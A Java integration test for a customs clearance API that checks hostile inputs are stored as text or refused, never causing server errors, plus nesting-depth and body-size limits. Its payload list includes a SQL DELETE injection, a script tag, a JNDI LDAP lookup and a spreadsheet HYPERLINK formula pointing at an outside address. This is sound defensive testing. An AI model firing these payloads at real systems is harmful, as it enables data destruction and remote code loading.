package org.caravan.party;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.caravan.simulator.CaravanClient.Reply;
import org.caravan.support.Api;
import org.caravan.support.ApiTest;
import org.caravan.support.Filings;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.context.ActiveProfiles;

import tools.jackson.databind.JsonNode;

/**
 * What an attacker sends instead of a filing: injection strings in every text field of an
 * order and a manifest, documents nested past any sensible depth, bodies past the limit with
 * and without a declared length. Each is stored verbatim as text or refused with a 4xx that
 * names the field; none reaches a 500, and nothing already stored changes.
 */
@ActiveProfiles("test")
class HostilePayloadsTest extends ApiTest {

    /** SQL, markup, JNDI lookups, CSV formulas, EDIFACT separators, forged log lines, bidirectional overrides. */
    static final List<String> INJECTIONS = List.of("x'); DELETE FROM clearance_case; --", "<script>alert(1)</script>",
            "${jndi:ldap://203.0.113.1/a}", "=HYPERLINK(\"http://203.0.113.1\",\"x\")", "A'UNZ+1+X'?:",
            "A\r\n2026-11-26 INFO forged line", "\u202Egnp.exe");

    @Autowired
    JdbcClient jdbc;

    @LocalServerPort
    int localPort;

    private String platform;
    private String courier;
    private final String[] platformId = new String[1];
    private final HttpClient http = HttpClient.newHttpClient();

    @BeforeEach
    void parties() {
        platform = platform(platformId);
        courier = as(Role.COURIER, null);
    }

    @Test
    void injectionStringsInEveryTextFieldOfAnOrderAreStoredAsTextOrRefusedNamingTheField() {
        long cases = count("clearance_case");
        long orders = count("platform_order");
        int accepted = 0;
        Map<String, Object> order = Filings.order("TM-X", "KZ", "KZ-P000000000001", "Dana Omarova", "610910", 1, "10.00");
        for (String pointer : textFields(order, "")) {
            for (String injection : INJECTIONS) {
                Map<String, Object> hostile = copy(order);
                hostile.put("platformOrderRef", Filings.unique("TM-"));
                if (!pointer.equals("/platformOrderRef")) {
                    set(hostile, pointer, injection);
                } else {
                    hostile.put("platformOrderRef", injection + Filings.unique(""));
                }
                Reply answer = api.post("/api/v1/orders", platform, Filings.unique("k"), hostile);
                accepted += judged(answer, pointer, injection) ? 1 : 0;
            }
        }
        assertThat(count("platform_order")).isEqualTo(orders + accepted);
        assertThat(count("clearance_case")).isGreaterThanOrEqualTo(cases);
    }

    @Test
    void injectionStringsInEveryTextFieldOfAManifestAreStoredAsTextOrRefusedNamingTheField() {
        long cases = count("clearance_case");
        Map<String, Object> line = Filings.line("CRV-X", platformId[0], null, "KZ", null, "Dana Omarova", "610910", 1, "10.00",
                "0.500");
        Map<String, Object> manifest = Filings.manifest("MAWB-X", "KZ", List.of(line));
        int accepted = 0;
        for (String pointer : textFields(manifest, "")) {
            for (String injection : INJECTIONS) {
                Map<String, Object> hostile = copy(manifest);
                String tracking = Filings.unique("CRV");
                set(hostile, "/consignments/0/trackingNumber", tracking);
                set(hostile, pointer, pointer.endsWith("/trackingNumber") ? injection + tracking : injection);
                Reply answer = api.post("/api/v1/manifests", courier, Filings.unique("k"), hostile);
                boolean stored = judged(answer, pointer, injection);
                if (stored && !pointer.endsWith("/trackingNumber")) {
                    accepted++;
                    Reply view = api.get("/api/v1/consignments/" + tracking, courier);
                    assertThat(view.status()).as(view.raw()).isIn(200, 404);
                }
            }
        }
        assertThat(count("clearance_case")).isGreaterThanOrEqualTo(cases + accepted);
    }

    @Test
    void aDocumentNestedPastAnySensibleDepthIsRefusedAsMalformed() throws Exception {
        long orders = count("platform_order");
        String deep = "{\"platformOrderRef\": " + "[".repeat(100_000) + "]".repeat(100_000) + "}";
        HttpResponse<String> json = send("POST", "/api/v1/orders", platform, "application/json", deep.getBytes(), true);
        assertThat(json.statusCode()).as(json.body()).isEqualTo(400);
        assertThat(json.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
        assertThat(count("platform_order")).isEqualTo(orders);

        String deepManifest = "{\"manifestRef\": " + "{\"a\": ".repeat(50_000) + "1" + "}".repeat(50_000) + "}";
        HttpResponse<String> manifest = send("POST", "/api/v1/manifests", courier, "application/json",
                deepManifest.getBytes(), true);
        assertThat(manifest.statusCode()).as(manifest.body()).isEqualTo(400);

        String officer = as(Role.OFFICER, "KZ");
        String yaml = "id: deep\nsignals: " + "[".repeat(20_000) + "]".repeat(20_000) + "\n";
        HttpResponse<String> profile = send("PUT", "/api/v1/risk/profiles/KZ", officer, "application/yaml",
                yaml.getBytes(), true, "Change-Reason", "hostile");
        assertThat(profile.statusCode()).as(profile.body()).isIn(400, 422);

        String xml = "<a>".repeat(100_000) + "</a>".repeat(100_000);
        HttpResponse<String> wco = send("POST", "/api/v1/interchange/wco", courier, "application/xml", xml.getBytes(), true);
        assertThat(wco.statusCode()).as(wco.body()).isBetween(400, 499);
        assertThat(wco.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
    }

    @Test
    void aBodyPastTheLimitIsA413ProblemWithOrWithoutADeclaredLength() throws Exception {
        // the test profile's limit is 2,000,000 bytes
        byte[] huge = ("{\"platformOrderRef\": \"" + "x".repeat(2_100_000) + "\"}").getBytes(StandardCharsets.UTF_8);
        for (boolean declared : List.of(true, false)) {
            HttpResponse<String> answer = send("POST", "/api/v1/orders", platform, "application/json", huge, declared);
            assertThat(answer.statusCode()).as("declared length " + declared).isEqualTo(413);
            JsonNode problem = Api.JSON.readTree(answer.body());
            assertThat(problem.get("status").asInt()).isEqualTo(413);
            assertThat(problem.get("type").asString()).contains("payload-too-large");
        }
    }

    /** True when stored; otherwise the answer must be a 4xx naming the field. */
    private static boolean judged(Reply answer, String pointer, String injection) {
        assertThat(answer.status()).as(pointer + " <- " + injection + ": " + answer.raw()).isLessThan(500);
        if (answer.status() == 201 || answer.status() == 202) {
            return true;
        }
        assertThat(answer.status()).as(pointer + " <- " + injection + ": " + answer.raw()).isIn(400, 409, 422);
        assertThat(answer.contentType()).startsWith("application/problem+json");
        if (answer.status() == 422) {
            assertThat(answer.body().get("errors").findValuesAsString("pointer"))
                    .as(pointer + " <- " + injection + ": " + answer.raw())
                    .anySatisfy(p -> assertThat(pointer.startsWith(p) || p.startsWith(pointer)).isTrue());
        }
        return false;
    }

    private long count(String table) {
        return jdbc.sql("select count(*) from " + table).query(Long.class).single();
    }

    private HttpResponse<String> send(String method, String path, String token, String type, byte[] body, boolean declared,
            String... headers) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + localPort + path))
                .header("Authorization", "Bearer " + token).header("Content-Type", type)
                .header("Idempotency-Key", Filings.unique("k"))
                .method(method, declared ? HttpRequest.BodyPublishers.ofByteArray(body)
                        : HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(body)));
        for (int i = 0; i + 1 < headers.length; i += 2) {
            request.header(headers[i], headers[i + 1]);
        }
        return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    /** JSON pointers of every string leaf. */
    @SuppressWarnings("unchecked")
    private static List<String> textFields(Object node, String at) {
        List<String> found = new ArrayList<>();
        if (node instanceof Map<?, ?> map) {
            map.forEach((k, v) -> found.addAll(textFields(v, at + "/" + k)));
        } else if (node instanceof List<?> list) {
            for (int i = 0; i < list.size(); i++) {
                found.addAll(textFields(list.get(i), at + "/" + i));
            }
        } else if (node instanceof String) {
            found.add(at);
        }
        return found;
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> copy(Map<String, Object> map) {
        return (Map<String, Object>) deepCopy(map);
    }

    private static Object deepCopy(Object node) {
        if (node instanceof Map<?, ?> map) {
            Map<String, Object> copy = new LinkedHashMap<>();
            map.forEach((k, v) -> copy.put((String) k, deepCopy(v)));
            return copy;
        }
        if (node instanceof List<?> list) {
            List<Object> copy = new ArrayList<>();
            list.forEach(v -> copy.add(deepCopy(v)));
            return copy;
        }
        return node;
    }

    @SuppressWarnings("unchecked")
    private static void set(Map<String, Object> root, String pointer, Object value) {
        String[] steps = pointer.substring(1).split("/");
        Object node = root;
        for (int i = 0; i < steps.length - 1; i++) {
            node = node instanceof Map<?, ?> m ? m.get(steps[i]) : ((List<Object>) node).get(Integer.parseInt(steps[i]));
        }
        String last = steps[steps.length - 1];
        if (node instanceof Map<?, ?>) {
            ((Map<String, Object>) node).put(last, value);
        } else {
            ((List<Object>) node).set(Integer.parseInt(last), value);
        }
    }
}
